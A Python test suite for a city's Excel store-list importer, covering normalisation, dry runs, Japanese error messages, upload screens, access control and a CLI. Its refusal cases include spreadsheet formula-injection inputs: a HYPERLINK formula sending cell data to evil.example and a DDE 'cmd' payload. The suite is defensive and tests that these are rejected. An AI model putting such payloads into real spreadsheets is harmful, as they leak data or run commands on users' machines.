"""Importing the city's store list from Excel (S-1, P-7; DESIGN.md section 5): the real-world
variations people send, the dry run, idempotency, every refusal, the error workbook, the
template, 600 stores in a few seconds, the secretariat's screens (the upload kept in the
database) and the CLI."""

import datetime as dt
import hashlib
import io
import re
import time

import openpyxl
import pytest
from sqlalchemy import delete, func, select, text
from sqlalchemy import event as sa_event

from kariya.clock import FixedClock
from kariya.errors import Invalid, NotFound
from kariya.models import Store, TransitionRecord, UploadedFile
from kariya.stores import registration
from kariya.stores.importer import applying, columns, planning, upload_flow, uploads, workbooks
from kariya.stores.importer.columns import HEADERS
from kariya.stores.importer.reading import ImportRefused
from tests.helpers import (
    ROUND1,
    csrf_from,
    login_staff,
    make_store,
    make_user,
    run_cli,
    write_cli_ini,
)

CLOCK = FixedClock(ROUND1)
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def row(code="K0001", name="かりや商店", **over):
    """One store as the canonical template orders it."""
    values = {
        "店舗コード": code,
        "店舗名": name,
        "店舗名カナ": "カリヤショウテン",
        "業種": "小売",
        "地区": "刈谷地区",
        "住所": "刈谷市東陽町1-1",
        "電話番号": "0566-23-1111",
        "営業時間": "10:00〜19:00",
        "金融機関コード": "1560",
        "支店コード": "003",
        "預金種目": "普通",
        "口座番号": "1234567",
        "口座名義カナ": "ｶﾘﾔｼﾖｳﾃﾝ",
        "メールアドレス": "info@example.jp",
    }
    values.update(over)
    return values


def workbook(rows, headers=None, *, prepare=None) -> bytes:
    """An .xlsx with `headers` in row 1 and `rows` (dicts by canonical header, or lists)."""
    headers = headers or HEADERS
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(headers)
    for r in rows:
        ws.append(r if isinstance(r, list) else [r.get(h) for h in headers])
    if prepare:
        prepare(ws)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def store_count(db) -> int:
    db.expire_all()
    return db.scalar(select(func.count()).select_from(Store))


def history_count(db) -> int:
    return db.scalar(select(func.count()).select_from(TransitionRecord))


def apply(db, data, **kw):
    report = applying.apply(db, CLOCK, data, actor="test", **kw)
    db.commit()
    return report


# --- what people actually send ------------------------------------------------------------------


def test_messy_real_world_workbook_is_normalised(db):
    """S-1: headings with spaces, full-width letters, brackets and other names, in another
    order; full-width codes and digits, phone hyphen variants, half-width kana, hiragana,
    numeric cells that lost their leading zeros, 1/2 for the account type."""
    headers = [
        " 電話 ",  # alias of 電話番号, with spaces
        "店名",  # alias of 店舗名
        "ＴＥＬ番号の備考",  # not a column we know: ignored with a notice
        "店舗コード",
        "店舗名（フリガナ）",
        "業 種",
        "地区",
        "所在地",
        "金融機関コード",
        "支店コード",
        "口座種別",
        "口座番号",
        "口座名義",
        "Ｅメール",
        "郵便番号",
    ]
    rows = [
        [
            "０５６６－２３－１１１１",
            "かりや　青果店",
            "昼は混みます",
            "ｄ０００１",
            "ｶﾘﾔ ｾｲｶﾃﾝ",
            "食料品店",
            "刈谷",
            "刈谷市桜町１－１",
            "１５６０",
            3,
            1,
            1234,
            "かりや　せいかてん",
            "Shop@Example.JP",
            "〒４４８－０８５８",
        ],
        [
            566231112,
            "ＡＢＣパティスリー",
            None,
            "D0002",
            "えーびーしーぱてぃすりー",
            "飲食",
            "ogakie",
            "刈谷市小垣江町1-5",
            1,
            "001",
            "当",
            "7654321",
            "ｴｰﾋﾞｰｼｰ(ｶ",
            None,
            None,
        ],
        [
            "0566ー23ー1113",
            "そば処 ふじまつ",
            None,
            "D0003",
            "ソバドコロ　フジマツ",
            "飲食",
            "富士松地区",
            "刈谷市今川町2-8",
            None,
            None,
            None,
            None,
            None,
            None,
            None,
        ],
    ]
    report = planning.preview(db, workbook(rows, headers))
    assert report.ok, report.error_lines()
    assert report.counts == {"create": 3, "update": 0, "unchanged": 0, "error": 0}
    assert any("ＴＥＬ番号の備考" in n for n in report.notices)
    apply(db, workbook(rows, headers))
    stores = {s.code: s for s in db.scalars(select(Store))}
    first = stores["D0001"]
    assert (first.name, first.kana, first.category, first.area) == (
        "かりや 青果店",
        "カリヤ セイカテン",
        "食料品",
        "kariya",
    )
    assert first.address == "〒448-0858 刈谷市桜町1-1"
    assert first.phone == "0566-23-1111"
    assert (first.bank_code, first.branch_code, first.account_type, first.account_number) == (
        "1560",
        "003",
        "普通",
        "0001234",
    )
    assert first.account_holder_kana == "ｶﾘﾔ ｾｲｶﾃﾝ"
    assert first.email == "Shop@example.jp"
    assert first.state == "applied" and first.qr_token is None
    second = stores["D0002"]
    assert (second.name, second.kana, second.phone) == (
        "ABCパティスリー",
        "エービーシーパティスリー",
        "0566231112",
    )
    assert (second.bank_code, second.branch_code, second.account_type) == ("0001", "001", "当座")
    assert second.account_holder_kana == "ｴ-ﾋﾞ-ｼ-(ｶ"
    third = stores["D0003"]
    assert (third.phone, third.kana, third.area, third.bank_code) == (
        "0566-23-1113",
        "ソバドコロ フジマツ",
        "fujimatsu",
        "",
    )
    # Residents find the imported store by half-width kana too (search text rebuilt).
    assert "カリヤセイカテン" in first.search_text


def test_dry_run_is_the_default_and_writes_nothing(db):
    """S-1: the preview says what would happen and writes nothing."""
    make_store(db, code="K0002", name="既存の店")
    data = workbook([row("K0001"), row("K0002", "既存の店 改装後")])
    before = history_count(db)
    report = applying.import_stores(db, CLOCK, data, actor="test")  # dry_run=True default
    db.commit()
    assert report.counts == {"create": 1, "update": 1, "unchanged": 0, "error": 0}
    assert not report.applied
    assert store_count(db) == 1
    assert db.scalar(select(Store.name).where(Store.code == "K0002")) == "既存の店"
    assert history_count(db) == before


def test_update_lists_the_differences_and_records_them(db):
    """S-1: an existing store (matched by code) gets only the changed fields, shown old → new,
    and its history says what the import changed."""
    make_store(db, code="K0001", name="かりや商店")
    report = planning.preview(db, workbook([row("K0001", 電話番号="0566-99-9999")]))
    (plan,) = report.rows
    assert plan.action == "update"
    changes = {c.label: (c.old, c.new) for c in plan.changes}
    assert changes["電話番号"] == ("", "0566-99-9999")
    assert changes["店舗名カナ"] == ("テストショウテン", "カリヤショウテン")
    assert "店舗名" not in changes and "業種" not in changes and "地区" not in changes
    apply(db, workbook([row("K0001", 電話番号="0566-99-9999")]), filename="list.xlsx")
    store = db.scalar(select(Store).where(Store.code == "K0001"))
    assert store.phone == "0566-99-9999" and store.state == "active"  # state untouched
    record = db.scalars(
        select(TransitionRecord).where(TransitionRecord.event == "import_update")
    ).one()
    assert (
        record.entity_id == store.id
        and "電話番号" in record.reason
        and "list.xlsx" in record.reason
    )


def test_second_import_of_the_same_file_changes_nothing(db):
    """S-1: idempotent: the second run finds every row unchanged and writes no row at all
    (PostgreSQL's xmin of every store row stays the same)."""
    data = workbook([row(f"K{n:04d}", f"店{n}") for n in range(1, 6)])
    first = apply(db, data, activate=True)
    assert first.counts["create"] == 5 and first.activated == 5
    xmins = dict(db.execute(text("SELECT code, xmin::text FROM store")).all())
    records = history_count(db)
    again = apply(db, data, activate=True)
    assert again.counts == {"create": 0, "update": 0, "unchanged": 5, "error": 0}
    assert again.activated == 0
    db.expire_all()
    assert dict(db.execute(text("SELECT code, xmin::text FROM store")).all()) == xmins
    assert history_count(db) == records


def test_activate_takes_every_imported_store_on_its_way_to_active_with_a_qr(db):
    """S-1, S-2, DESIGN §5: --activate takes every imported store through to active: a new one
    through review and approval, one already applied or approved through what remains. Its QR
    token is issued. A store the secretariat suspended stays suspended and is named."""
    make_store(db, code="K0009", name="審査待ちの店", active=False)
    approved = make_store(db, code="K0010", name="承認済みの店", active=False)
    for event in ("review", "approve"):
        registration.transition(db, CLOCK, approved, event, actor="test", reason="")
    suspended = make_store(db, code="K0011", name="停止中の店")
    registration.transition(db, CLOCK, suspended, "suspend", actor="test", reason="調査中")
    db.flush()
    report = apply(
        db,
        workbook(
            [
                row("K0001"),
                row("K0009", "審査待ちの店"),
                row("K0010", "承認済みの店"),
                row("K0011", "停止中の店"),
            ]
        ),
        activate=True,
    )
    assert report.activated == 3
    assert report.not_activated == ["K0011 停止中の店: 一時停止のため利用可能にしていません。"]
    state = dict(db.execute(select(Store.code, Store.state)).all())
    assert state == {"K0001": "active", "K0009": "active", "K0010": "active", "K0011": "suspended"}
    assert all(db.scalar(select(Store.qr_token).where(Store.code == c)) for c in ("K0001", "K0009"))

    def events(code):
        store_id = db.scalar(select(Store.id).where(Store.code == code))
        return db.scalars(
            select(TransitionRecord.event)
            .where(TransitionRecord.machine == "store", TransitionRecord.entity_id == store_id)
            .order_by(TransitionRecord.id)
        ).all()

    assert events("K0001") == ["import_create", "review", "approve", "activate"]
    assert events("K0009")[-3:] == ["review", "approve", "activate"]
    assert events("K0010")[-1] == "activate" and events("K0010").count("approve") == 1
    assert "suspend" in events("K0011") and "reinstate" not in events("K0011")


def test_without_activate_new_stores_wait_for_review(db):
    apply(db, workbook([row("K0001")]))
    store = db.scalar(select(Store).where(Store.code == "K0001"))
    assert store.state == "applied" and store.qr_token is None


# --- errors per row and column, nothing written --------------------------------------------------


def test_row_errors_name_row_and_column_in_japanese_and_nothing_is_written(db):
    """S-1: every wrong value is reported with its row and column; one wrong row stops the
    whole import (all or nothing)."""
    rows = [
        row("K0001"),  # fine
        row("K0002", 業種="宝飾"),
        row("K0003", 地区="名古屋"),
        row("K0004", name=""),
        row("K0005", 電話番号="0566-23"),
        row("K0006", 口座番号=None),  # the other bank fields are there
        row("K0007", 金融機関コード="9998"),
        row("K0008", 店舗名カナ="刈谷商店"),
        row("K0009", 口座名義カナ="刈谷商店"),
    ]
    data = workbook(rows)
    report = planning.preview(db, data)
    assert not report.ok
    assert report.counts == {"create": 1, "update": 0, "unchanged": 0, "error": 8}
    lines = report.error_lines()
    expected = [
        "3行目 業種: 業種「宝飾」は登録できる業種ではありません",
        "4行目 地区: 地区「名古屋」は登録できる地区ではありません",
        "5行目 店舗名: 店舗名が入力されていません。",
        "6行目 電話番号: 電話番号「0566-23」の桁数が正しくありません",
        "7行目 口座番号: 振込先の口座番号が入力されていません",
        "8行目 金融機関コード: 振込先: 金融機関コード 9998 は存在しません。",
        "9行目 店舗名カナ: 店舗名カナはカタカナで入力してください",
        "10行目 口座名義カナ: 口座名義カナ「刈谷商店」に振込で使えない文字があります",
    ]
    for start in expected:
        assert any(line.startswith(start) for line in lines), (start, lines)
    with pytest.raises(Invalid) as exc:
        applying.apply(db, CLOCK, data, actor="test")
    db.rollback()
    assert exc.value.code == "IMPORT_ERRORS"
    assert "8行にエラーがあるため、取り込みませんでした" in exc.value.message
    assert exc.value.details == lines
    assert store_count(db) == 0


def test_duplicate_store_codes_are_refused(db):
    """S-1: the same code twice (also when typed full-width once) is an error on both rows."""
    data = workbook([row("K0001"), row("K0002"), row("Ｋ０００１", "別の店")])
    report = planning.preview(db, data)
    lines = report.error_lines()
    assert any(
        line.startswith("2行目 店舗コード: 店舗コード K0001 が4行目と重複しています")
        for line in lines
    )
    assert any(
        line.startswith("4行目 店舗コード: 店舗コード K0001 が2行目と重複しています")
        for line in lines
    )
    with pytest.raises(Invalid):
        applying.apply(db, CLOCK, data, actor="test")
    db.rollback()
    assert store_count(db) == 0


def test_error_workbook_is_the_upload_with_an_error_column(db):
    """S-1: the errors go back as the uploaded workbook with an エラー column, on the right rows."""
    data = workbook([row("K0001"), row("K0002", 業種="宝飾"), row("K0003")])
    result = openpyxl.load_workbook(io.BytesIO(workbooks.errors_xlsx(db, data)))
    ws = result.worksheets[0]
    assert ws.cell(1, len(HEADERS) + 1).value == "エラー"
    assert ws.cell(2, len(HEADERS) + 1).value is None
    assert "業種「宝飾」は登録できる業種ではありません" in ws.cell(3, len(HEADERS) + 1).value
    assert ws.cell(4, len(HEADERS) + 1).value is None
    assert ws.cell(3, 4).fill.fgColor.rgb.endswith("FFC7CE")  # the wrong cell is coloured
    assert [c.value for c in ws[1]][: len(HEADERS)] == HEADERS  # the original is kept


# --- files refused as a whole -----------------------------------------------------------------------


def _formula(ws):
    ws["F2"] = "=A2&B2"


def _merged_header(ws):
    ws.merge_cells("A1:B1")


def _merged_data(ws):
    ws.merge_cells("D2:D3")


def _refusals():
    good = workbook([row("K0001")])
    many = openpyxl.Workbook(write_only=True)
    sheet = many.create_sheet()
    sheet.append(HEADERS[:6])
    for n in range(5001):
        sheet.append([f"K{n:05d}", "店", "ミセ", "小売", "刈谷地区", "刈谷市"])
    out = io.BytesIO()
    many.save(out)
    return [
        (
            "encrypted",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000,
            "ENCRYPTED",
            "パスワード",
        ),
        (
            "csv renamed",
            "店舗コード,店舗名\nK0001,かりや商店\n".encode("cp932"),
            "NOT_XLSX",
            ".xlsx",
        ),
        ("random bytes", bytes(range(256)) * 10, "NOT_XLSX", "Excelファイル"),
        ("a zip, not a workbook", _zip_of("hello.txt"), "NOT_XLSX", "Excelファイル"),
        ("truncated workbook", good[: len(good) // 2], "NOT_XLSX", "Excelファイル"),
        (
            "formula",
            workbook([row("K0001")], prepare=_formula),
            "FORMULA",
            "数式が入力されたセルがあります(F2)",
        ),
        # Text that normalises to "=…" (I-10; issue 14, defect 1): refused like a formula.
        (
            "full-width ＝ name",
            workbook([row("K0001", '＝HYPERLINK("http://evil.example/?"&D3,"明細")')]),
            "FORMULA",
            "数式が入力されたセルがあります(B2)",
        ),
        (
            "space before = name",
            workbook([row("K0001"), row("K0002", " =cmd|' /C calc'!A0")]),
            "FORMULA",
            "数式が入力されたセルがあります(B3)",
        ),
        (
            "U+3000 before = address",
            workbook([row("K0001", 住所="\u3000=1+1")]),
            "FORMULA",
            "(F2)",
        ),
        (
            "merged header",
            workbook([row("K0001")], prepare=_merged_header),
            "MERGED_CELLS",
            "1行目の見出しに結合されたセル",
        ),
        (
            "merged data",
            workbook([row("K0001"), row("K0002")], prepare=_merged_data),
            "MERGED_CELLS",
            "D2:D3",
        ),
        ("5,001 rows", out.getvalue(), "TOO_MANY_ROWS", "5,000行"),
        ("over 10 MB", b"PK\x03\x04" + b"\0" * (10 * 1024 * 1024), "TOO_LARGE", "10MBまで"),
        (
            "no header",
            workbook([row("K0001")], headers=[""] * 3),
            "BAD_HEADER",
            "1行目に見出しがありません",
        ),
        (
            "missing column",
            workbook([["K0001", "店"]], headers=["店舗コード", "店舗名"]),
            "BAD_HEADER",
            "必須の列がありません: 店舗名カナ、業種、地区、住所",
        ),
        (
            "same column twice",
            workbook([["K0001", "店", "店"]], headers=["店舗コード", "店舗名", "店名"]),
            "BAD_HEADER",
            "同じ項目",
        ),
        ("no rows", workbook([]), "EMPTY", "取り込む店舗の行がありません"),
        ("empty file", b"", "NOT_XLSX", "空"),
    ]


def _zip_of(name: str) -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, "hello")
    return out.getvalue()


@pytest.mark.parametrize("name, data, code, words", _refusals(), ids=[r[0] for r in _refusals()])
def test_unusable_files_are_refused_in_japanese_and_nothing_is_written(db, name, data, code, words):
    """S-1: not Excel, encrypted or .xls, over 10 MB, over 5,000 rows, formulas, merged cells,
    unusable headings: one clear Japanese message, nothing written."""
    with pytest.raises(ImportRefused) as exc:
        applying.apply(db, CLOCK, data, actor="test")
    db.rollback()
    assert exc.value.code == code
    assert words in exc.value.message
    assert exc.value.status == 422
    assert store_count(db) == 0


def test_values_are_checked_for_formulas_after_normalisation(db):
    """I-10 (issue 14, defect 1): the plan refuses what its normalisers turn into text starting
    with "=", whatever the reading let through: the stored value is what counts."""
    from kariya.stores.importer.reading import Sheet

    columns_of = {key: n for n, key in enumerate(columns.FIELDS, start=1)}
    raw = {
        key: row("K0001")[column.header]
        for key, column in columns.BY_KEY.items()
        if key in columns_of
    }
    sheet = Sheet(
        columns=columns_of,
        headers={key: columns.BY_KEY[key].header for key in columns_of},
        ignored=[],
        rows=[(2, raw), (3, {**raw, "code": "K0002", "name": "\u3000＝1+1"})],
    )
    with pytest.raises(ImportRefused) as exc:
        planning.plan(db, sheet)
    assert exc.value.code == "FORMULA" and "(B3)" in exc.value.message
    assert "先頭の「=」を取り除いて" in exc.value.message


def test_a_small_workbook_of_millions_of_empty_cells_is_refused_on_the_form(db, secretariat):
    """I-10 (issue 14, defect 6): 3,000 rows x 1,000 empty formatted cells (75 KB) kept a worker
    for 26 s; the upload is refused (422, Japanese) at once and nothing is kept."""
    from tests.benchmarks.import_bounds import empty_cells

    started = time.perf_counter()
    response = upload(secretariat, empty_cells(3000, 1000), status=422)
    assert time.perf_counter() - started < 5
    assert "セルが多すぎるため取り込めません" in response.text
    assert kept_uploads(db) == []


# --- the template -------------------------------------------------------------------------------------


def test_template_has_headers_example_and_drop_downs(db):
    """S-1, DESIGN.md section 5: the canonical headings, one example row that imports cleanly,
    drop-down lists for category and area drawn from the configuration."""
    data = workbooks.template_workbook()
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb.worksheets[0]
    assert [c.value for c in ws[1]] == HEADERS
    assert ws.max_row == 2
    validations = {str(v.sqref).split(":")[0]: v for v in ws.data_validations.dataValidation}
    category = validations["D2"]
    area = validations["E2"]
    options = wb["選択肢"]
    listed = lambda v: [  # noqa: E731
        c.value for c in options[v.formula1.split("!")[1].replace("$", "")] for c in c
    ]
    assert category.type == "list" and listed(category) == columns.CATEGORIES
    assert "刈谷地区" in listed(area) and "依佐美地区" in listed(area)
    report = planning.preview(db, data)
    assert report.ok and report.counts["create"] == 1


# --- 600 stores -------------------------------------------------------------------------------------


def _six_hundred() -> bytes:
    return workbook(
        [
            row(f"K{n:04d}", f"テスト商店{n}号店", 電話番号=f"0566-23-{n:04d}", 口座番号=str(n))
            for n in range(1, 601)
        ]
    )


class Statements:
    """Counts the SQL statements sent on `db`'s connection: a bound on round trips holds on a busy
    machine where a bound on seconds does not (the seconds are printed, and measured in the README)."""

    def __init__(self, db):
        self.bind, self.count = db.get_bind(), 0

    def _seen(self, *args):
        self.count += 1

    def __enter__(self):
        sa_event.listen(self.bind, "before_cursor_execute", self._seen)
        self.started = time.perf_counter()
        return self

    def __exit__(self, *exc):
        self.elapsed = time.perf_counter() - self.started
        sa_event.remove(self.bind, "before_cursor_execute", self._seen)


def test_six_hundred_stores_import_in_a_few_statements(db):
    """P-7: about 600 stores; creating them costs one statement per store and a few more (about
    1.7 s here), and checking the same file again (all unchanged) one query in all. Counted, not
    timed: a statement more per store fails on any machine, a busy one included."""
    data = _six_hundred()
    with Statements(db) as applied:
        report = apply(db, data)
    print(f"\n600-row store import: {applied.elapsed:.2f} s, {applied.count} statements")
    assert report.counts["create"] == 600
    assert store_count(db) == 600
    assert applied.count <= 600 + 20
    with Statements(db) as previewed:
        again = planning.preview(db, data)
    print(
        f"600-row preview (all unchanged): {previewed.elapsed:.2f} s, {previewed.count} statements"
    )
    assert again.counts["unchanged"] == 600
    assert previewed.count <= 5


def test_six_hundred_stores_import_and_activation(db):
    """P-7, S-2: the same with --activate: each new store also goes through review, approval
    and activation (1,800 recorded transitions) and gets its QR token: eight statements per
    store (about 3 s on an idle 2-core machine; counted, not timed)."""
    with Statements(db) as applied:
        report = apply(db, _six_hundred(), activate=True)
    print(
        f"\n600-row store import with activation: {applied.elapsed:.2f} s, {applied.count} statements"
    )
    assert report.activated == 600
    assert (
        db.scalar(select(func.count()).where(Store.state == "active", Store.qr_token.is_not(None)))
        == 600
    )
    assert applied.count <= 8 * 600 + 20


# --- the secretariat's screens ----------------------------------------------------------------------


def kept_uploads(db) -> list[UploadedFile]:
    """The uploads waiting for their confirmation (in the database, for every web process)."""
    db.expire_all()
    return list(db.scalars(select(UploadedFile)))


@pytest.fixture
def secretariat(db, testapp):
    make_user(db, "secretariat", "jimukyoku")
    login_staff(testapp, "jimukyoku")
    return testapp


def form_for(page, action_end: str):
    """The page's form posting to a URL ending in `action_end` (the header holds a logout form)."""
    (form,) = [f for f in page.forms.values() if f.action.endswith(action_end)]
    return form


def upload(app, data, filename="stores.xlsx", status=302):
    form = app.get("/secretariat/stores/import")
    return app.post(
        "/secretariat/stores/import",
        {"csrf_token": csrf_from(form.text)},
        upload_files=[("file", filename, data)],
        status=status,
    )


def test_upload_preview_confirm(db, secretariat):
    """S-1: upload → preview (created/updated/unchanged/errors) → confirm; nothing is written
    before the confirmation; the file waits in the database, not in the browser."""
    apply(db, workbook([row("K0002", "既存の店"), row("K0003", "そのままの店")]))
    rows = [row("K0001"), row("K0002", "既存の店 新装開店"), row("K0003", "そのままの店")]
    response = upload(secretariat, workbook(rows), filename="市の一覧.xlsx")
    assert response.location.endswith("/secretariat/stores/import/preview")
    (kept,) = kept_uploads(db)
    assert (kept.filename, kept.uploaded_by, kept.purpose) == (
        "市の一覧.xlsx",
        "staff:jimukyoku",
        "store_import",
    )
    assert kept.size == len(kept.content) > 0
    assert kept.sha256 == hashlib.sha256(kept.content).hexdigest()
    page = response.follow()
    summary = page.html.select_one("#summary tbody tr").get_text(" ", strip=True)
    assert summary == "1件 1件 1件 0件"
    changes = page.html.select_one("#rows").get_text(" ", strip=True)
    assert "店舗名: 既存の店 → 既存の店 新装開店" in changes
    assert "市の一覧.xlsx" in page.text
    assert store_count(db) == 2  # the preview wrote nothing
    form = form_for(page, "/apply")
    assert form["upload"].value == kept.token
    form["activate"] = True
    done = form.submit(status=302)
    assert done.location.endswith("/secretariat/stores")
    listing = done.follow()
    assert "店舗一覧を取り込みました。全3行: 新規 1件 / 更新 1件 / 変更なし 1件" in listing.text
    assert "3店舗を利用可能にしました" in listing.text  # the new one and the two applied ones
    db.expire_all()
    assert set(db.scalars(select(Store.state))) == {"active"}
    assert db.scalar(select(Store.name).where(Store.code == "K0002")) == "既存の店 新装開店"
    assert kept_uploads(db) == []  # removed with the import's commit
    # The session no longer points at the file: the preview sends back to the upload form.
    again = secretariat.get("/secretariat/stores/import/preview", status=302)
    assert "もう一度アップロードしてください" in again.follow().text


def test_preview_with_errors_offers_the_error_workbook_and_no_confirmation(db, secretariat):
    """S-1: rows with errors are listed with their column; there is no button to apply, the
    error workbook downloads, and posting the confirmation anyway is refused (422)."""
    page = upload(secretariat, workbook([row("K0001"), row("K0002", 地区="名古屋")])).follow()
    assert "地区「名古屋」は登録できる地区ではありません" in page.text
    assert "この内容で登録する" not in page.text
    download = secretariat.get("/secretariat/stores/import/errors.xlsx")
    assert download.content_type == XLSX
    ws = openpyxl.load_workbook(io.BytesIO(download.body)).worksheets[0]
    assert "名古屋" in ws.cell(3, len(HEADERS) + 1).value
    refused = secretariat.post(
        "/secretariat/stores/import/apply",
        {"csrf_token": csrf_from(page.text), "upload": _kept_id(db)},
        status=422,
    )
    assert "1行にエラーがあるため、取り込みませんでした" in refused.text
    assert store_count(db) == 0


def _kept_id(db) -> str:
    """The upload token the preview was made for, as the confirmation form would carry it."""
    (kept,) = kept_uploads(db)
    assert re.fullmatch(r"[A-Za-z0-9_-]{43}", kept.token)  # 256 random bits
    return kept.token


def test_unreadable_upload_is_refused_on_the_form(db, secretariat):
    """S-1: a CSV renamed .xlsx gets the Japanese explanation at once (422), nothing kept."""
    response = upload(
        secretariat, "店舗コード,店舗名\nK0001,店\n".encode(), filename="stores.xlsx", status=422
    )
    assert "Excelファイル(.xlsx)として読み込めませんでした" in response.text
    assert "何も登録していません" in response.text
    assert kept_uploads(db) == []
    form = secretariat.get("/secretariat/stores/import")
    missing = secretariat.post(
        "/secretariat/stores/import", {"csrf_token": csrf_from(form.text)}, status=422
    )
    assert "取り込むExcelファイルを選んでください" in missing.text


def test_confirmation_must_match_the_latest_upload(db, secretariat):
    """A confirmation from an older preview (another tab uploaded since) is refused (409)."""
    first = upload(secretariat, workbook([row("K0001")])).follow()
    old_form = form_for(first, "/apply")
    upload(secretariat, workbook([row("K0002")])).follow()
    old_form.submit(status=409)
    assert store_count(db) == 0


def test_cancel_discards_the_upload(db, secretariat):
    page = upload(secretariat, workbook([row("K0001")])).follow()
    response = form_for(page, "/cancel").submit(status=302).follow()
    assert "取り込みを取りやめました" in response.text
    assert kept_uploads(db) == []
    assert store_count(db) == 0


def test_the_upload_waits_in_the_database_for_any_web_process(db, secretariat, settings):
    """Issue 10, item 8: the upload is kept in the database, so a confirmation that another web
    process (another host) serves finds it, and removes it with the import."""
    import webtest

    from kariya import make_config

    page = upload(secretariat, workbook([row("K0001")])).follow()
    other_app = make_config(dict(settings)).make_wsgi_app()
    other = webtest.TestApp(
        other_app, extra_environ=secretariat.extra_environ, cookiejar=secretariat.cookiejar
    )
    again = other.get("/secretariat/stores/import/preview")
    assert again.html.select_one("#summary tbody tr").get_text(" ", strip=True) == "1件 0件 0件 0件"
    done = other.post(
        "/secretariat/stores/import/apply",
        {"csrf_token": csrf_from(page.text), "upload": _kept_id(db)},
        status=302,
    )
    assert "新規 1件" in done.follow().text
    assert store_count(db) == 1 and kept_uploads(db) == []


def test_an_upload_serves_only_whoever_uploaded_it(db, secretariat, testapp, set_now):
    """The upload is found by its token only for the staff member who uploaded it, and only for
    the store import: to anyone else it is as absent as a vanished one, in Japanese."""
    import webtest

    set_now(ROUND1)
    upload(secretariat, workbook([row("K0001")]))
    token = _kept_id(db)
    for staff, purpose in (("staff:someone_else", "store_import"), ("staff:jimukyoku", "other")):
        with pytest.raises(NotFound) as exc:
            uploads.get(db, CLOCK, token, purpose=purpose, uploaded_by=staff)
        assert exc.value.code == "UPLOAD_NOT_FOUND"
        assert "もう一度アップロードしてください" in exc.value.message
    with pytest.raises(NotFound):
        upload_flow.confirm(db, CLOCK, token, token, staff="staff:someone_else", activate=False)
    upload_flow.cancel(db, token, staff="staff:someone_else")
    db.commit()
    assert store_count(db) == 0 and [u.token for u in kept_uploads(db)] == [token]

    make_user(db, "secretariat", "jimukyoku2")
    colleague = webtest.TestApp(testapp.app, extra_environ=testapp.extra_environ)  # own cookies
    login_staff(colleague, "jimukyoku2")
    form = colleague.get("/secretariat/stores/import")
    assert "確認中のファイル" not in form.text
    refused = colleague.post(
        "/secretariat/stores/import/apply",
        {"csrf_token": csrf_from(form.text), "upload": token},
        status=404,
    )
    assert "取り込むファイルが見つかりません" in refused.text
    colleague.get("/secretariat/stores/import/errors.xlsx", status=404)
    assert store_count(db) == 0 and len(kept_uploads(db)) == 1


def test_a_vanished_upload_is_refused_in_japanese(db, secretariat):
    """An upload removed meanwhile (confirmed in another tab, or old and swept): the
    confirmation is refused with a clear message and writes nothing; the preview sends back to
    the upload form with that message."""
    page = upload(secretariat, workbook([row("K0001")])).follow()
    db.execute(delete(UploadedFile))
    db.commit()
    refused = form_for(page, "/apply").submit(status=404)
    assert "取り込むファイルが見つかりません(有効期限切れか、取り込み済みです)" in refused.text
    assert store_count(db) == 0
    back = secretariat.get("/secretariat/stores/import/preview", status=302).follow()
    assert "もう一度アップロードしてください" in back.text


def test_old_uploads_expire_and_the_next_upload_removes_them(db, secretariat, set_now):
    """An upload is usable for UPLOAD_TTL; after that it is gone for its flow, and the next
    upload, anyone's, removes it from the database."""
    set_now(ROUND1)
    page = upload(secretariat, workbook([row("K0001")])).follow()
    later = set_now(ROUND1 + uploads.UPLOAD_TTL + dt.timedelta(minutes=1))
    refused = form_for(page, "/apply").submit(status=404)
    assert "有効期限切れか、取り込み済みです" in refused.text
    assert store_count(db) == 0
    assert len(kept_uploads(db)) == 1  # still there, unusable
    upload(secretariat, workbook([row("K0002")]))
    (kept,) = kept_uploads(db)
    assert kept.uploaded_at == later
    summary = secretariat.get("/secretariat/stores/import/preview").html.select_one("#rows")
    assert "K0002" in summary.get_text(" ", strip=True)


def test_template_download(secretariat):
    response = secretariat.get("/secretariat/stores/template.xlsx")
    assert response.content_type == XLSX
    assert 'filename="store_template.xlsx"' in response.headers["Content-Disposition"]
    ws = openpyxl.load_workbook(io.BytesIO(response.body)).worksheets[0]
    assert [c.value for c in ws[1]] == HEADERS


def test_home_links_to_the_store_screens(secretariat):
    home = secretariat.get("/secretariat/")
    assert "/secretariat/stores" in home.text


@pytest.mark.parametrize("role", ["agent", "city", "store"])
def test_only_the_secretariat_reaches_the_import(db, testapp, role):
    """D-1, I-10: other staff roles get 403 on every store screen of the secretariat."""
    make_store(db, code="S0001")
    make_user(db, role, f"user_{role}", store_code="S0001" if role == "store" else None)
    login_staff(testapp, f"user_{role}")
    for url in (
        "/secretariat/stores",
        "/secretariat/stores/import",
        "/secretariat/stores/import/preview",
        "/secretariat/stores/import/errors.xlsx",
        "/secretariat/stores/template.xlsx",
        "/secretariat/stores/S0001",
    ):
        testapp.get(url, status=403)
    testapp.post(
        "/secretariat/stores/import",
        {"csrf_token": csrf_from(testapp.get("/login").text)},
        upload_files=[("file", "s.xlsx", workbook([row("K0001")]))],
        status=403,
    )
    assert store_count(db) == 1


def test_residents_and_anonymous_are_kept_out(db, testapp):
    from tests.helpers import login_resident

    anonymous = testapp.get("/secretariat/stores/import", status=302)
    assert "/login" in anonymous.location
    login_resident(testapp)
    testapp.get("/secretariat/stores/import", status=403)
    testapp.get("/secretariat/stores", status=403)


# --- the CLI ----------------------------------------------------------------------------------------


@pytest.fixture
def ini(tmp_path):
    return write_cli_ini(tmp_path)


def run(ini, *args, input=None):
    return run_cli(ini, *args, input=input)


def test_cli_import_stores(ini, tmp_path, db):
    """DESIGN.md section 5: `kariya import-stores FILE.xlsx [--dry-run] [--activate]`."""
    path = tmp_path / "stores.xlsx"
    path.write_bytes(workbook([row("K0001"), row("K0002", "二号店")]))
    dry = run(ini, "import-stores", str(path), "--dry-run")
    assert dry.returncode == 0, dry.stderr
    assert "まだ登録していません" in dry.stdout and "新規 2件" in dry.stdout
    assert store_count(db) == 0
    done = run(ini, "import-stores", str(path), "--activate")
    assert done.returncode == 0, done.stderr
    assert "取り込みました" in done.stdout and "2店舗を利用可能にしました" in done.stdout
    assert store_count(db) == 2
    assert set(db.scalars(select(Store.state))) == {"active"}
